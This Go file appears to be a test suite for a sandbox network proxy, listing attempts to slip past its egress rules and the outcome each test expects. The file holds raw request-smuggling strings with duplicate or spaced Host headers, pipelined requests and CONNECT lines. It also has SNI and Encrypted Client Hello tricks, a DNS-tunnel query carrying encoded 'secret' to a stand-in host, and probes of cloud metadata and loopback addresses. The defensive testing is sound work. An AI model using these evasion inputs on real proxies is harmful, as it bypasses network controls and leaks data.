package attack

import (
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

// ask is get for a question of our own; an answer of the allowed server is right.
func ask(address, request string) error {
	answer, err := speak("tcp", address, request)
	if strings.Contains(answer, "this is "+doorAllowed) {
		return held("the allowed server answers, whatever the address")
	}
	return greeted(answer, err)
}

// handshake begins TLS. Of the servers outside only the allowed one speaks it; whether
// another was reached is seen there.
func handshake(address string, config *tls.Config) error {
	dialer := net.Dialer{Timeout: patience / 4}
	conn, err := dialer.Dial("tcp", address)
	if err != nil {
		return held(err.Error())
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(patience / 4))
	config.InsecureSkipVerify = true
	if err := tls.Client(conn, config).Handshake(); err != nil {
		return held(err.Error())
	}
	return nil
}

// question is a message of DNS that asks for an address.
func question(name string) []byte {
	message := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: 7, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}},
	}
	packed, err := message.Pack()
	if err != nil {
		panic(err) // the names are ours
	}
	return packed
}

// resolve asks a server, and says what it answers; whom the question reached is seen
// outside.
func resolve(network, server, name string) error {
	conn, err := net.DialTimeout(network, server, patience/4)
	if err != nil {
		return held(err.Error())
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(patience / 8))
	message := question(name)
	if network == "tcp" {
		message = append(binary.BigEndian.AppendUint16(nil, uint16(len(message))), message...)
	}
	if _, err := conn.Write(message); err != nil {
		return held(err.Error())
	}
	answer := make([]byte, 4096)
	n, err := conn.Read(answer)
	if err != nil {
		return held(err.Error())
	}
	return held(fmt.Sprintf("an answer of %d bytes, which is the sandbox's own", n))
}

// toName asks the host of a name that rules allow for a page.
func toName(name string) func(*Inside) error {
	return func(in *Inside) error {
		address, err := in.resolved(name)
		if err != nil {
			return held(err.Error())
		}
		return get(net.JoinHostPort(address, "80"), name)
	}
}

func nameRows() []Row {
	const request = "GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
	asked := func(address, text string, arguments ...any) func(*Inside) error {
		return func(*Inside) error { return ask(address, fmt.Sprintf(text, arguments...)) }
	}
	greeted := func(address, name string) func(*Inside) error {
		return func(*Inside) error { return handshake(address, &tls.Config{ServerName: name}) }
	}
	return []Row{
		{ID: "host-elsewhere", Tried: "Give the Host of an allowed name to an address that no rule allows", Right: "the proxy asks the allowed host, at an address that it found itself",
			Bare: everybody, Inside: asked(addressDenied+":80", request, "allowed.example")},
		{ID: "host-denied", Tried: "Give another Host to the address of an allowed name", Right: "the proxy answers 403",
			Inside: asked(addressAllowed+":80", request, "denied.example")},
		{ID: "two-hosts", Tried: "Send a request with two Hosts, with one behind a space, or with a target of another host", Right: "the proxy refuses, or asks the allowed host",
			Inside: func(*Inside) error {
				for _, request := range []string{
					"GET / HTTP/1.1\r\nHost: allowed.example\r\nHost: denied.example\r\n\r\n", "GET / HTTP/1.1\r\nHost : denied.example\r\nHost: allowed.example\r\n\r\n",
					"GET http://denied.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n", "CONNECT denied.example:80 HTTP/1.1\r\nHost: denied.example:80\r\n\r\n",
				} {
					if err := ask(addressDenied+":80", request); err == nil {
						return nil
					}
				}
				return held("each is refused, or the allowed server answers")
			}},
		{ID: "second-request", Tried: "Ask for another host in the second request of a connection", Right: "each request is decided about; the second is refused",
			Inside: asked(addressDenied+":80", "GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\nGET / HTTP/1.1\r\nHost: denied.example\r\nConnection: close\r\n\r\n")},
		{ID: "sni-elsewhere", Tried: "Give the TLS server name of an allowed host to an address that no rule allows", Right: "the address is not dialled",
			Bare: everybody, Inside: func(in *Inside) error {
				if err := greeted(addressDenied+":443", "allowed.example")(in); err != nil {
					return err
				}
				return held("the allowed server answers, whatever the address") // the other one has no TLS
			}},
		{ID: "sni-denied", Tried: "Give another TLS server name to the address of an allowed host", Right: "the TLS handshake is refused; the server sees nothing",
			Inside: greeted(addressAllowed+":443", "denied.example"), Before: markAllowed, After: allowedUntouched},
		{ID: "no-sni", Tried: "Begin TLS without a server name, at an address that no rule allows", Right: "the TLS handshake is refused",
			Bare: everybody, Inside: greeted(addressDenied+":443", "")},
		{ID: "hidden-sni", Tried: "Hide the TLS server name (Encrypted Client Hello) behind an allowed one", Right: "the TLS handshake is refused; the hidden server sees nothing",
			Bare: everybody, Inside: func(in *Inside) error {
				list, err := os.ReadFile(filepath.Join(in.Folder, "ech"))
				if err != nil {
					return err
				}
				return handshake(addressAllowed+":443", &tls.Config{ServerName: "denied.example", EncryptedClientHelloConfigList: list, MinVersion: tls.VersionTLS13})
			}},
		{ID: "dns-elsewhere", Tried: "Ask another resolver, by UDP and by TCP", Right: "the sandbox answers; the resolver sees nothing",
			Bare: everybody, Inside: func(*Inside) error {
				if err := resolve("tcp", addressOther+":53", "denied.example."); err == nil {
					return nil
				}
				return resolve("udp", addressOther+":53", "denied.example.")
			}},
		{ID: "dns-tunnel", Tried: "Carry data out in the name of a question", Right: "no resolver outside is asked for what no rule allows",
			Bare: everybody, Inside: func(*Inside) error { return resolve("udp", addressResolver+":53", "c2VjcmV0.denied.example.") }},
		{ID: "dns-encrypted", Tried: "Ask a resolver by HTTPS or by TLS", Right: "it is a server that no rule allows",
			Bare: everybody, Inside: func(*Inside) error {
				if err := handshake(addressOther+":443", &tls.Config{ServerName: "dns.example"}); err == nil {
					return nil
				}
				return handshake(addressOther+":853", &tls.Config{ServerName: "dns.example"})
			}},
		{ID: "metadata-address", Tried: "Ask the metadata service of a cloud by its address", Right: "the proxy refuses",
			Bare: everybody, Inside: reach("tcp", addressMetadata+":80")},
		{ID: "metadata-name", Tried: "Ask an allowed name that leads to the metadata service", Right: "the address is not dialled",
			Bare: everybody, Inside: toName("metadata.example")},
		{ID: "private-name", Tried: "Ask an allowed name that leads to a private address", Right: "the address is not dialled without consent",
			Bare: everybody, Inside: toName("private.example")},
		{ID: "loopback-name", Tried: "Ask an allowed name that leads to the machine's loopback", Right: "the address is not dialled",
			Bare: everybody, Inside: toName("loopback.example")},
	}
}

// markAllowed remembers how often the allowed server was reached, and allowedUntouched
// compares.
func markAllowed(o *outside) error {
	o.mark = o.doors.times(doorAllowed)
	return nil
}

func allowedUntouched(o *outside) error {
	if n := o.doors.times(doorAllowed); n != o.mark {
		return fmt.Errorf("the allowed server was reached %d times", n-o.mark)
	}
	return nil
}
